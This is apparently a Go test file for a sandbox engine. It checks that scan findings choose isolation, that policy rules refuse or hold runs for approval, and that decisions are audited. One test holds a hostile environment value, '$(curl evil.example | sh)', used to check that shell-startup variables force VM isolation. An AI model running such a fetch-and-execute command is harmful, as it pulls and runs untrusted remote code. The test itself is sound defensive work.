package engine_test

import (
	"context"
	"errors"
	"io"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"pinfold/internal/driver"
	"pinfold/internal/driver/fake"
	"pinfold/internal/engine"
	"pinfold/internal/engine/records"
	"pinfold/internal/engine/runs"
	"pinfold/internal/policy"
	"pinfold/sandbox"
)

func rules(t *testing.T, p sandbox.Policy) func() *policy.Policy {
	t.Helper()
	made, err := policy.New(p)
	if err != nil {
		t.Fatal(err)
	}
	return func() *policy.Policy { return made }
}

// ruled serves an engine with a policy, two drivers of which one makes virtual machines, and
// a scan that finds what the code says: "rule:severity". ran counts programs.
func ruled(t *testing.T, p sandbox.Policy, change ...func(*engine.Options)) (s *served, ran *atomic.Int64) {
	t.Helper()
	ran = &atomic.Int64{}
	script := func(driver.Plan) fake.Script {
		return fake.Script{Program: func(p *fake.Process) fake.Exit {
			ran.Add(1)
			_, _ = io.WriteString(p.Stdout, "ran\n")
			return fake.Exit{}
		}}
	}
	o := engine.Options{
		Drivers: []driver.Driver{
			fake.New(fake.Options{Name: "plain", Script: script}),
			fake.New(fake.Options{Name: "machines", Level: sandbox.LevelVM, Script: script}),
		},
		Rules: rules(t, p),
		Scan: func(_ context.Context, req sandbox.ScanRequest, _ func(context.Context, sandbox.Spec) (*sandbox.Result, error)) (*sandbox.ScanReport, error) {
			if req.Code == "broken" {
				return nil, errors.New("the scan broke")
			}
			r := &sandbox.ScanReport{Findings: []sandbox.Finding{}}
			if rule, severity, ok := strings.Cut(req.Code, ":"); ok {
				r.Findings = append(r.Findings, sandbox.Finding{Rule: rule, Severity: sandbox.Severity(severity)})
			}
			return r, nil
		},
	}
	for _, f := range change {
		f(&o)
	}
	return serve(t, o, nil), ran
}

func program(code string) runs.Request {
	return runs.Request{Tenant: "alice", Spec: sandbox.Spec{Language: "sh", Code: code}}
}

func one(r sandbox.PolicyRule) sandbox.Policy { return sandbox.Policy{Rules: []sandbox.PolicyRule{r}} }

func by(key string) context.Context { return records.WithKey(context.Background(), key) }

// What a scan sees chooses the wall; the request need not ask for the scan, and what was seen
// and decided is in the result. What cannot be scanned is taken for the worst.
func TestFindingsChooseTheWall(t *testing.T) {
	s, _ := ruled(t, one(sandbox.PolicyRule{ID: "danger-in-vm", When: sandbox.PolicyWhen{Severity: "danger"}, Then: sandbox.PolicyThen{Isolation: "vm", Limits: sandbox.Limits{WallTimeMS: 5000}}}))
	for code, want := range map[string]string{"process-start:danger": "machines", "process-start:notice": "plain", "broken": "machines"} {
		r, err := s.Run(soon(t), program(code))
		if err != nil {
			t.Fatalf("%s: %v", code, err)
		}
		if r.Isolation.Driver != want || r.Policy == nil || r.Policy.Digest == "" || r.Findings == nil {
			t.Errorf("%s: behind %s, %+v", code, r.Isolation.Driver, r.Policy)
		}
		if matched := len(r.Policy.Rules) == 1; matched != (want == "machines") {
			t.Errorf("%s: %+v", code, r.Policy)
		}
	}
	// A driver that was named is no way around it.
	req := program("process-start:danger")
	req.Spec.Driver = "plain"
	if r, err := s.Run(soon(t), req); err != nil || r.Isolation.Driver != "machines" {
		t.Errorf("%+v, %v", r, err)
	}
	// Nor is code in a variable that the program's shell runs before it; data in one is no reason.
	for name, want := range map[string]string{"BASH_ENV": "machines", "GREETING": "plain"} {
		req := program("process-start:notice")
		req.Spec.Env = map[string]string{name: "$(curl evil.example | sh)"}
		if r, err := s.Run(soon(t), req); err != nil || r.Isolation.Driver != want || (r.FindingsUnread != "") != (want == "machines") {
			t.Errorf("%s: %+v, %v", name, r, err)
		}
	}
	// Nor is another file as the program.
	req = runs.Request{Tenant: "alice", Spec: sandbox.Spec{Language: "sh", Entrypoint: "a.sh", Files: []sandbox.File{{Path: "a.sh", Content: "process-start:danger"}}}}
	if r, err := s.Run(soon(t), req); err != nil || r.Isolation.Driver != "machines" || len(r.Findings) != 1 {
		t.Errorf("%+v, %v", r, err)
	}
}

// A refused run has not run, says which rule refused it, and its record has why.
func TestRulesRefuse(t *testing.T) {
	a := newAudited(t, true)
	s, ran := ruled(t, one(sandbox.PolicyRule{ID: "no-danger", When: sandbox.PolicyWhen{Findings: []string{"process-*"}}, Then: sandbox.PolicyThen{Refuse: "not here"}}),
		func(o *engine.Options) { o.Auditor = a })
	_, err := s.Run(soon(t), program("process-start:danger"))
	if e := sandbox.AsError(err); e == nil || e.Code != sandbox.CodePolicyRefused || !strings.Contains(e.Message, "no-danger") || !strings.Contains(e.Message, "not here") {
		t.Fatalf("%v", err)
	}
	page, err := s.Runs(soon(t), "alice", records.Query{})
	if err != nil || len(page.Items) != 1 {
		t.Fatalf("%+v, %v", page, err)
	}
	r, err := s.RunRecord(soon(t), "alice", page.Items[0].ID)
	if err != nil || r.Result.Policy == nil || r.Result.Policy.Rules[0].Refuse != "not here" || len(r.Result.Findings) != 1 {
		t.Errorf("%+v, %v", r.Result, err)
	}
	events := a.last()
	if len(events) != 1 || events[0].Entry.Policy == nil || !slices.Equal(events[0].Entry.Policy.Rules, []string{"no-danger"}) ||
		!slices.Equal(events[0].Entry.Findings, []string{"process-start"}) || events[0].Entry.Severity != sandbox.SeverityDanger || events[0].Entry.Policy.Digest != r.Result.Policy.Digest {
		t.Errorf("%+v", events)
	}
	if ran.Load() != 0 {
		t.Error("it ran")
	}
}

func asking(own bool, pending int, timeout time.Duration) sandbox.Policy {
	p := one(sandbox.PolicyRule{ID: "ask", When: sandbox.PolicyWhen{Severity: "warning"}, Then: sandbox.PolicyThen{Ask: "who wants that?", Isolation: "vm"}})
	p.Approval = sandbox.PolicyApproval{Own: own, Pending: pending, TimeoutMS: timeout.Milliseconds()}
	return p
}

// A detached run answers that it waits; it holds no room meanwhile, runs when it is approved
// by another key, and result and audit log say by whom.
func TestApproval(t *testing.T) {
	a := newAudited(t, true)
	s, ran := ruled(t, asking(false, 0, 0), func(o *engine.Options) { o.Auditor = a; o.Capacity.Sandboxes = 1 })
	r, err := s.Start(by("asker"), program("x:danger"))
	if err != nil || r.State != sandbox.RunPending {
		t.Fatalf("%+v, %v", r, err)
	}
	if _, err := s.Run(soon(t), program("harmless")); err != nil { // there is room for one
		t.Fatal(err)
	}
	_ = a.last()
	all := s.Approvals("alice")
	if len(all) != 1 || all[0].Run != r.ID || all[0].Key != "asker" || all[0].Driver != "machines" || all[0].Spec != nil || len(all[0].Findings) != 1 {
		t.Fatalf("%+v", all)
	}
	if len(s.Approvals("bob")) != 0 || len(s.Approvals("")) != 1 {
		t.Error("another tenant's")
	}
	if shown, err := s.Approval("alice", r.ID); err != nil || shown.Spec.Code != "x:danger" {
		t.Errorf("%+v, %v", shown, err)
	}
	if streamed, err := s.Start(by("asker"), func() runs.Request { req := program("x:danger"); req.OpenStdin = true; return req }()); err != nil {
		t.Error(err)
	} else if shown, err := s.Approval("alice", streamed.ID); err != nil || !shown.OpenStdin || all[0].OpenStdin {
		t.Errorf("what comes later is not said: %+v, %v", shown, err)
	} else if _, err := s.CancelRun(soon(t), "alice", streamed.ID); err != nil {
		t.Error(err)
	}
	_ = a.last()
	for _, c := range []struct{ key, tenant, want string }{{"asker", "alice", sandbox.CodeForbidden}, {"other", "bob", sandbox.CodeNotFound}} {
		if _, err := s.Decide(by(c.key), c.tenant, r.ID, sandbox.VerdictApproved, ""); code(err) != c.want {
			t.Errorf("%+v: %v", c, err)
		}
	}
	a.broken = errors.New("no disk")
	if _, err := s.Decide(by("boss"), "alice", r.ID, sandbox.VerdictApproved, ""); err == nil {
		t.Error("an approval that is not recorded holds")
	}
	a.broken = nil
	if now, err := s.RunRecord(soon(t), "alice", r.ID); err != nil || now.State != sandbox.RunPending || ran.Load() != 1 {
		t.Fatalf("%+v, %v, %d ran", now, err, ran.Load())
	}
	if _, err := s.Decide(by("boss"), "alice", r.ID, sandbox.VerdictApproved, "looked at it"); err != nil {
		t.Fatal(err)
	}
	done, err := s.AwaitRun(soon(t), "alice", r.ID)
	if err != nil || done.Result.Status != sandbox.StatusSucceeded || done.Result.Isolation.Driver != "machines" {
		t.Fatalf("%+v, %v", done.Result, err)
	}
	if d := done.Result.Policy.Approval; d == nil || d.Verdict != sandbox.VerdictApproved || d.By != "boss" || d.Reason != "looked at it" {
		t.Errorf("%+v", d)
	}
	if _, err := s.Decide(by("boss"), "alice", r.ID, sandbox.VerdictDenied, ""); err == nil {
		t.Error("it was decided twice")
	}
	events := a.last()
	if len(events) != 2 || events[0].Entry.Kind != sandbox.AuditRunApproved || events[0].Entry.Key != "boss" || events[0].Entry.ID != r.ID || events[0].Entry.Evidence != "looked at it" ||
		events[1].Entry.Kind != sandbox.AuditRun || events[1].Entry.Key != "asker" || events[1].Entry.Policy.By != "boss" || events[1].Entry.Policy.Verdict != sandbox.VerdictApproved {
		t.Errorf("%+v", events)
	}
}

// A run that is denied, that nobody approves in time, that is cancelled, or whose server
// ends has not run, and says so.
func TestNothingRunsUnapproved(t *testing.T) {
	for name, c := range map[string]struct {
		end    func(t *testing.T, s *served, id string)
		code   string
		status sandbox.Status
	}{
		"denied": {func(t *testing.T, s *served, id string) {
			t.Helper()
			if _, err := s.Decide(by("boss"), "", id, sandbox.VerdictDenied, "no"); err != nil {
				t.Error(err)
			}
		}, sandbox.CodeApprovalDenied, sandbox.StatusError},
		"too late": {func(*testing.T, *served, string) {}, sandbox.CodeApprovalTimeout, sandbox.StatusError},
		"cancelled": {func(t *testing.T, s *served, id string) {
			t.Helper()
			if _, err := s.CancelRun(soon(t), "alice", id); err != nil {
				t.Error(err)
			}
		}, "", sandbox.StatusKilled},
		"server ends": {func(t *testing.T, s *served, _ string) {
			t.Helper()
			if err := s.Drain(soon(t)); err != nil {
				t.Error(err)
			}
		}, sandbox.CodeShuttingDown, sandbox.StatusError},
	} {
		t.Run(name, func(t *testing.T) {
			timeout := time.Hour
			if name == "too late" {
				timeout = 50 * time.Millisecond
			}
			s, ran := ruled(t, asking(false, 0, timeout))
			r, err := s.Start(by("asker"), program("x:danger"))
			if err != nil {
				t.Fatal(err)
			}
			c.end(t, s, r.ID)
			r, err = s.AwaitRun(soon(t), "alice", r.ID)
			if err != nil || r.Result == nil {
				t.Fatalf("%+v, %v", r, err)
			}
			got := ""
			if r.Result.Error != nil {
				got = r.Result.Error.Code
			}
			if got != c.code || r.Result.Status != c.status || ran.Load() != 0 || len(s.Approvals("")) != 0 || r.Result.Policy == nil {
				t.Errorf("%+v, %d ran", r.Result, ran.Load())
			}
		})
	}
}

// Who waits for a run waits for the approval, too, and its end ends that; so many of a
// tenant's may wait.
func TestWaitingForApproval(t *testing.T) {
	s, ran := ruled(t, asking(true, 1, 0))
	ctx, cancel := context.WithCancel(by("asker"))
	began := make(chan string, 1)
	req := program("x:danger")
	req.Started = func(id string) { began <- id }
	type end struct {
		r   *sandbox.Result
		err error
	}
	ends := make(chan end)
	go func() {
		r, err := s.Run(ctx, req)
		ends <- end{r, err}
	}()
	id := <-began
	if _, err := s.Run(soon(t), program("x:danger")); code(err) != sandbox.CodeQuotaExceeded {
		t.Errorf("one more waits: %v", err)
	}
	other := program("x:danger")
	other.Tenant = "bob"
	bobs, err := s.Start(by("bobs"), other)
	if err != nil || bobs.State != sandbox.RunPending {
		t.Errorf("another tenant's: %+v, %v", bobs, err)
	}
	if _, err := s.Decide(by("asker"), "alice", id, sandbox.VerdictApproved, ""); err != nil { // the operator lets it
		t.Error(err)
	}
	if e := <-ends; e.err != nil || e.r.Stdout != "ran\n" {
		t.Errorf("%+v", e)
	}
	go func() {
		r, err := s.Run(ctx, req)
		ends <- end{r, err}
	}()
	<-began
	cancel()
	if e := <-ends; e.err != nil || e.r.Cause.Kind != sandbox.CauseCancelled {
		t.Errorf("%+v", e)
	}
	if _, err := s.CancelRun(soon(t), "bob", bobs.ID); err != nil {
		t.Error(err)
	}
	if ran.Load() != 1 {
		t.Errorf("%d ran", ran.Load())
	}
}

// Where nobody can be asked, and where who is asked says no, nothing runs.
func TestApproverOfTheCommandLine(t *testing.T) {
	for name, c := range map[string]struct {
		verdict sandbox.Verdict
		want    string
	}{"yes": {sandbox.VerdictApproved, ""}, "no": {sandbox.VerdictDenied, sandbox.CodeApprovalDenied}, "nothing": {"", sandbox.CodeApprovalDenied}} {
		s, ran := ruled(t, asking(false, 0, 0), func(o *engine.Options) {
			o.Approver = func(context.Context, sandbox.Approval) (sandbox.PolicyDecision, error) {
				return sandbox.PolicyDecision{Verdict: c.verdict}, nil
			}
		})
		if _, err := s.Run(soon(t), program("x:danger")); code(err) != c.want || (ran.Load() == 1) != (c.want == "") {
			t.Errorf("%s: %v, %d ran", name, err, ran.Load())
		}
	}
}

// Living sandboxes are held by the rules, too: nobody knows what will run in them, so rules
// about findings are for them. What a command may ask for is bounded by them, and nobody is
// asked about one.
func TestRulesOfLivingSandboxes(t *testing.T) {
	a := newAudited(t, true)
	s, _ := ruled(t, one(sandbox.PolicyRule{ID: "vm", When: sandbox.PolicyWhen{Severity: "danger"}, Then: sandbox.PolicyThen{Isolation: "vm", Limits: sandbox.Limits{WallTimeMS: 20_000, OutputBytes: 1000}}}),
		func(o *engine.Options) { o.Auditor = a })
	x := s.create(t, sandbox.Create{Limits: sandbox.Limits{WallTimeMS: 10_000}})
	info := x.Info()
	if info.Isolation.Driver != "machines" || info.Policy == nil || len(info.Policy.Rules) != 1 || info.Limits.WallTimeMS != 10_000 || info.Limits.OutputBytes != 1000 {
		t.Errorf("%+v", info)
	}
	if e := a.last(); len(e) != 1 || e[0].Entry.Policy == nil || e[0].Entry.Policy.Rules[0] != "vm" {
		t.Errorf("%+v", e)
	}
	for _, c := range []sandbox.Command{{Args: []string{"true"}, WallTimeMS: 30_000}, {Args: []string{"true"}, OutputBytes: 2000}} {
		if _, err := x.Exec(soon(t), c); code(err) != sandbox.CodeLimitInvalid {
			t.Errorf("%+v: %v", c, err)
		}
	}
	if _, err := x.Exec(soon(t), sandbox.Command{Args: []string{"true"}, WallTimeMS: 15_000}); err != nil {
		t.Error(err)
	}
	s, _ = ruled(t, asking(false, 0, 0))
	if _, err := s.Create(soon(t), "alice", sandbox.Create{}); code(err) != sandbox.CodePolicyRefused {
		t.Errorf("nobody was asked: %v", err)
	}
	p := asking(false, 0, 0)
	p.Rules[0].When.Kinds = []string{"run"}
	s, _ = ruled(t, p)
	s.create(t, sandbox.Create{})
}

// The policy is looked up for each request, and a run keeps the one that it was asked under.
func TestPolicyChangesWhileTheServerRuns(t *testing.T) {
	var now atomic.Pointer[policy.Policy]
	s, _ := ruled(t, sandbox.Policy{}, func(o *engine.Options) { o.Rules = now.Load })
	if r, err := s.Run(soon(t), program("x:danger")); err != nil || r.Policy != nil || r.Findings != nil {
		t.Errorf("%+v, %v", r, err)
	}
	now.Store(rules(t, one(sandbox.PolicyRule{ID: "no", Then: sandbox.PolicyThen{Refuse: "closed"}}))())
	if _, err := s.Run(soon(t), program("x:danger")); code(err) != sandbox.CodePolicyRefused {
		t.Errorf("%v", err)
	}
}

// A trial says what a policy would have done to runs that were.
func TestPolicyTrialOfPastRuns(t *testing.T) {
	s, _ := ruled(t, sandbox.Policy{})
	for _, c := range []struct {
		code string
		scan bool
	}{{"x:danger", true}, {"x:notice", true}, {"unknown", false}} {
		req := program(c.code)
		req.Spec.Scan = c.scan
		if _, err := s.Run(by("k1"), req); err != nil {
			t.Fatal(err)
		}
	}
	p := rules(t, one(sandbox.PolicyRule{ID: "no", When: sandbox.PolicyWhen{Severity: "danger", Keys: []string{"k1"}}, Then: sandbox.PolicyThen{Refuse: "closed"}}))()
	r, err := s.TryPolicy(soon(t), p, 1000)
	if err != nil || r.Runs != 3 || r.Refused != 1 || r.Unscanned != 1 || len(r.Touched) != 1 || r.Touched[0].Tenant != "alice" {
		t.Errorf("%+v, %v", r, err)
	}
	if r, err := s.TryPolicy(soon(t), p, 1); err != nil || r.Runs != 1 {
		t.Errorf("%+v, %v", r, err)
	}
}

// A profile of the caller's own, which the request is already as, is one that rules are about.
func TestRuleAboutAProfileOfTheCallers(t *testing.T) {
	s, ran := ruled(t, one(sandbox.PolicyRule{ID: "no-calc", When: sandbox.PolicyWhen{Profiles: []string{"calc"}}, Then: sandbox.PolicyThen{Refuse: "not here"}}))
	req := program("echo")
	req.Profile = &sandbox.ProfileRef{Name: "calc", Digest: "d"}
	if _, err := s.Run(soon(t), req); code(err) != sandbox.CodePolicyRefused || ran.Load() != 0 {
		t.Errorf("%v", err)
	}
	req.Profile.Name = "other"
	if r, err := s.Run(soon(t), req); err != nil || r.Profile == nil || r.Profile.Name != "other" {
		t.Errorf("%+v, %v", r, err)
	}
}
